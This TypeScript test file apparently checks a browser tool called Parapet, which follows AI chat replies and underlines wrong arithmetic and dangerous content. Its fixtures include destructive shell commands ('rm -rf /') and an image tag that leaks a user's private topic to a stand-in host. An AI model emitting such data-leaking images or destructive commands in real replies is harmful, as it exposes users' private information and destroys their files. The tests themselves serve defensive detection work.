import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type {} from './page/main.ts';
import { readingPages, type ReadingPages } from './reading-page.ts';

const site = { reply: '.reply', streaming: '.busy' };
let pages: ReadingPages;
let page: Page;

beforeAll(async () => {
  pages = await readingPages();
}, 60_000);
afterAll(() => pages.close());
beforeEach(async () => {
  await page?.close();
  page = await pages.open();
});

/** Puts turns into the thread; each string is the inside of one reply. */
const addReplies = (...replies: readonly string[]): Promise<void> =>
  page.evaluate((all) => {
    for (const reply of all) {
      const turn = document.createElement('div');
      turn.innerHTML = `<div class="user"><p>And then?</p></div><div class="reply">${reply}</div>`;
      document.querySelector('#thread')!.append(turn);
    }
  }, replies);
const start = (selectors: { reply?: string; streaming?: string } = site): Promise<void> =>
  page.evaluate((given) => window.lab.start(given), selectors);
const painted = async (): Promise<readonly string[]> =>
  Object.values(await page.evaluate(() => window.lab.painted()))
    .flat()
    .sort();
const texts = async (): Promise<readonly string[]> =>
  (await page.evaluate(() => window.lab.segments)).map(({ text }) => text.trim());

describe('following', () => {
  test('reads the thread that is there, block by block, and nothing of the user', async () => {
    await addReplies(
      '<h2>Title</h2><p>One <b>two</b>.</p><ul><li>a<ul><li>b</li></ul></li></ul><pre><code class="language-sh">ls\nrm</code></pre>',
    );
    await start();
    await expect.poll(texts).toEqual(['Title', 'One two.', 'a', 'b', 'ls\nrm']);
  });

  test('hands on a streamed sentence at its end, the rest when it is quiet, and a paused one again', async () => {
    await addReplies('');
    await start();
    const type = (text: string): Promise<void> =>
      page.evaluate((more) => window.lab.type(document.querySelector('.reply')!, more), text);
    await type('The first. The sec');
    await expect.poll(texts).toContain('The first.');
    expect(await texts()).toEqual(['The first.']);
    await expect.poll(texts).toEqual(['The first.', 'The sec']);
    await type('ond.');
    await expect.poll(texts).toEqual(['The first.', 'The sec', 'The second.']);
    expect((await page.evaluate(() => window.lab.segments)).at(-1)?.replaces).toBe('The sec');
  });

  test('waits longer in the middle of a number while the site says that it writes', async () => {
    await addReplies('<p>17 × 24 = 4</p>');
    await page.evaluate(() => document.body.classList.add('busy'));
    await start();
    await page.waitForTimeout(900);
    expect(await texts()).toEqual([]);
    await page.evaluate(() => {
      window.lab.type(document.querySelector('.reply')!, '08');
      document.body.classList.remove('busy');
    });
    await expect.poll(texts).toEqual(['17 × 24 = 408']);
  });

  test('a reply written anew is read anew and counted; the same text rendered anew is not', async () => {
    await addReplies('<p>The old words.</p>');
    await start();
    await expect.poll(texts).toEqual(['The old words.']);
    await page.evaluate(() => (document.querySelector('.reply')!.innerHTML = '<p>The old words.</p>'));
    await page.waitForTimeout(800);
    expect(await texts()).toEqual(['The old words.']);
    await page.evaluate(() => (document.querySelector('.reply')!.innerHTML = '<p>Quite different.</p>'));
    await expect.poll(texts).toEqual(['The old words.', 'Quite different.']);
    expect((await page.evaluate(() => window.lab.segments)).map(({ generation }) => generation)).toEqual([0, 1]);
  });

  test('reads through open shadow roots and formulas, and skips what is hidden', async () => {
    await addReplies(
      '<p>2<sup>10</sup> and <span class="katex">x<b>y</b></span></p><p aria-hidden="true">no</p><x-part></x-part>',
    );
    await page.evaluate(() => {
      const root = document.querySelector('x-part')!.attachShadow({ mode: 'open' });
      root.innerHTML = '<p>In the shade.</p>';
    });
    await start();
    await expect.poll(texts).toEqual(['2^10 and \uFFFC', 'In the shade.']);
    await page.evaluate(() => {
      document.querySelector('x-part')!.shadowRoot!.innerHTML += '<p>Later.</p>';
    });
    await expect.poll(texts).toContain('Later.');
  });

  test('without selectors, what grows by itself is a reply; what is typed is none', async () => {
    await page.evaluate(() => {
      document.querySelector('#thread')!.innerHTML =
        '<section><p>Question?</p></section><section id="answer"></section>';
    });
    await start({});
    await page.evaluate(async () => {
      const answer = document.querySelector('#answer')!;
      for (const part of ['Here is the answer. ', 'It has several sentences. ', 'And they come one by one.']) {
        window.lab.type(answer, part);
        window.lab.type(document.querySelector('#composer')!, part);
        await new Promise((done) => setTimeout(done, 60));
      }
      answer.insertAdjacentHTML('beforeend', '<p>A last paragraph.</p>');
    });
    await expect.poll(async () => (await texts()).join(' ')).toContain('A last paragraph.');
    expect((await texts()).join(' ').match(/several/g)).toHaveLength(1);
    expect((await texts()).join(' ')).not.toContain('Question');
  });
});

const wrong = '<p>We know that 17 × 24 = <b>418</b>.</p>';

describe('marking', () => {
  test('underlines the exact words and leaves the tree and the layout as they were', async () => {
    await addReplies(`${wrong}<pre><code class="language-bash">rm -rf /</code></pre>`);
    const look = (): Promise<unknown> =>
      page.evaluate(() => [
        document.querySelector('main')!.outerHTML,
        document.body.scrollHeight,
        document.body.childElementCount,
      ]);
    const before = await look();
    await start();
    await expect.poll(painted).toEqual(['418', 'rm -rf /']);
    expect(await look()).toEqual(before);
  });

  test('a block that the words before it warn of is left alone', async () => {
    await addReplies(
      '<p>Never run this:</p><pre><code>rm -rf /</code></pre>',
      `<p>Run this:</p><pre><code>rm -rf /</code></pre>`,
    );
    await start();
    await expect.poll(painted).toEqual(['rm -rf /']);
    await page.waitForTimeout(800);
    expect(await painted()).toEqual(['rm -rf /']);
  });

  test('finds its words again after the page has rendered them anew, and drops them once they are gone', async () => {
    await addReplies(wrong, wrong.replace('418', '409'));
    await start();
    await expect.poll(painted).toEqual(['409', '418']);
    await page.evaluate(() => {
      const reply = document.querySelector('.reply')!;
      reply.innerHTML = reply.innerHTML;
    });
    await expect.poll(painted).toEqual(['409', '418']);
    await page.evaluate(() => CSS.highlights.clear());
    await page.evaluate(() => (document.querySelector('.reply')!.innerHTML = '<p>17 × 24 = 408, of course.</p>'));
    await expect.poll(painted).toEqual(['409']);
    await page.evaluate(() => document.querySelectorAll('.reply')[1]!.remove());
    await expect.poll(painted).toEqual([]);
    expect(await page.evaluate(() => window.lab.count())).toBe(0);
  });

  test('marks inside an open shadow root', async () => {
    await addReplies('<x-part></x-part>');
    await page.evaluate((inside) => {
      document.querySelector('x-part')!.attachShadow({ mode: 'open' }).innerHTML = inside;
    }, wrong);
    await start();
    await expect.poll(painted).toEqual(['418']);
    expect(await page.evaluate(() => document.querySelector('x-part')!.shadowRoot!.adoptedStyleSheets.length)).toBe(1);
  });

  test('takes everything away when it is stopped', async () => {
    await addReplies(wrong);
    await start();
    await expect.poll(painted).toEqual(['418']);
    await page.evaluate(() => window.lab.stop());
    expect(await painted()).toEqual([]);
    expect(await page.locator('parapet-marks').count()).toBe(0);
  });
});

/** The boxes in Parapet's closed root. */
async function boxes(): Promise<number> {
  const devtools = await page.context().newCDPSession(page);
  const { root } = await devtools.send('DOM.getDocument', { depth: -1, pierce: true });
  await devtools.detach();
  return JSON.stringify(root).match(/"class","box/g)?.length ?? 0;
}

describe('what cannot be underlined', () => {
  test('a picture that would carry data gets a frame', async () => {
    await addReplies(
      '<p>Done. <img alt="ok" width="60" height="40" src="https://log.evil.test/c.gif?q=the+user+asked+about+his+divorce"></p>',
    );
    await start();
    await expect.poll(boxes).toBe(1);
  });

  test('without the browser’s highlights the words get boxes, which go with the words', async () => {
    await addReplies(wrong);
    await page.evaluate(() => Reflect.deleteProperty(CSS, 'highlights'));
    await start();
    await expect.poll(boxes).toBe(1);
    await page.evaluate(() => document.querySelector('.reply')!.remove());
    await expect.poll(boxes).toBe(0);
  });
});

/** What an assistive technology is told of Parapet's part of the page: only the developer tools see into a closed root. */
async function spoken(): Promise<string> {
  const devtools = await page.context().newCDPSession(page);
  const { nodes } = await devtools.send('Accessibility.getFullAXTree');
  await devtools.detach();
  return nodes.map(({ name }) => String(name?.value ?? '')).join('\n');
}

describe('explaining', () => {
  test('by keyboard: Tab, Enter, arrows, Escape, Dismiss', async () => {
    await addReplies(`${wrong}<p>And 5 + 6 = 12.</p>`);
    await start();
    await expect.poll(painted).toEqual(['12', '418']);
    expect(await spoken()).toContain('Parapet marked 2 passages');
    await page.locator('#composer').focus();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(spoken).toContain('17 × 24 is 408, not 418.');
    const shots = process.env['SCREENSHOTS'];
    if (shots) await page.waitForTimeout(300).then(() => page.screenshot({ path: `${shots}/marks-keyboard.png` }));
    await page.keyboard.press('ArrowDown');
    await expect.poll(spoken).toContain('5 + 6 is 11, not 12.');
    await page.keyboard.press('Escape');
    await expect.poll(spoken).not.toContain('is 11');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(painted).toEqual(['12']);
    expect(await page.evaluate(() => window.lab.dismissed)).toEqual(['The sum does not add up']);
  });

  test.each(['light', 'dark'])('by pointer, on a %s page', async (theme) => {
    await addReplies(
      `${wrong}<p>Paste this into a terminal:</p><pre><code class="language-bash">cd build\nrm -rf "$OUT"/*</code></pre><p>The rest is fine.</p>`,
    );
    await page.evaluate((name) => document.body.classList.add(name), theme);
    await start();
    await expect.poll(painted).toHaveLength(2);
    const box = (await page.locator('.reply b').boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await expect.poll(spoken).toContain('not 418.');
    const shots = process.env['SCREENSHOTS'];
    if (shots) await page.waitForTimeout(300).then(() => page.screenshot({ path: `${shots}/marks-${theme}.png` }));
    await page.mouse.move(box.x, box.y + 400);
    await expect.poll(spoken).not.toContain('not 418.');
  });
});

describe('cost', () => {
  const paragraph =
    '<p>Photosynthesis turns light, water and 6 molecules of CO2 into sugar; see <a href="https://example.com/a">a page</a> about <code>it</code>. A year has 12 × 30 = 360 days there, or so they say in old books of the sea.</p>';

  test('50 replies of 4 KB make no long task, and a settled sentence is marked in 300 ms', async () => {
    await addReplies(...Array.from({ length: 50 }, () => paragraph.repeat(18) + wrong));
    await page.waitForTimeout(500);
    await page.evaluate(() => (window.lab.longest = 0));
    await start();
    await expect.poll(async () => (await painted()).length, { timeout: 20_000 }).toBe(50);
    const times: number[] = [];
    for (let round = 0; round < 10; round++) {
      const given = { html: `<p>Then 8 × 9 = ${80 + round}.</p><p>So it goes.</p>`, expected: `${80 + round}` };
      times.push(
        await page.evaluate(
          ({ html, expected }) => window.lab.timeToMark(document.querySelector('.reply')!, html, expected),
          given,
        ),
      );
    }
    const longest = await page.evaluate(() => window.lab.longest);
    const worst = Math.max(...times);
    if (process.env['SCREENSHOTS'])
      process.stdout.write(`longest task ${longest} ms, to mark ${times.map(Math.round).join(' ')} ms\n`);
    expect(worst).toBeLessThan(300);
    expect(longest).toBeLessThan(50);
    // and the meter does see a long task
    await page.evaluate(() =>
      setTimeout(() => {
        for (const end = performance.now() + 80; performance.now() < end;);
      }),
    );
    await expect.poll(() => page.evaluate(() => window.lab.longest)).toBeGreaterThanOrEqual(50);
  }, 60_000);
});
